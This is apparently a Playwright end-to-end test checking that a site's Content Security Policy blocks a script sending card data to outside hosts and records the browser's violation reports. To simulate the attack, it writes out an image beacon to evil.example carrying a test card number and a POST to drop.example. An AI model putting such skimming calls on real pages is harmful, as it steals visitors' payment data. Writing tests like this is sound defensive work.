import { expect, test } from '@playwright/test'
import { startOwnSite } from './own-site.ts'
import { waitForHydration } from './visitor.ts'

test('24.1 a script that sends the card elsewhere is stopped, and the browser reports it', async ({ page }) => {
  test.setTimeout(180_000) // starting a site takes time
  const site = await startOwnSite()
  await page.goto(site.at('/ana'))
  await waitForHydration(page)
  const outcome = await page.evaluate(async () => {
    new Image().src = 'https://evil.example/pixel?card=4242424242424242'
    return fetch('https://drop.example/collect', { method: 'POST', body: 'card' }).then(
      () => 'sent',
      () => 'stopped',
    )
  })
  expect(outcome).toBe('stopped')
  const reports = () =>
    site.db.selectFrom('csp_report').select(['directive', 'blocked', 'page', 'count']).orderBy('directive').execute()
  await expect.poll(reports, { timeout: 20_000 }).toEqual([
    { directive: 'connect-src', blocked: 'https://drop.example', page: '/{site}', count: 1 },
    { directive: 'img-src', blocked: 'https://evil.example', page: '/{site}', count: 1 },
  ])
  await site.close()
})
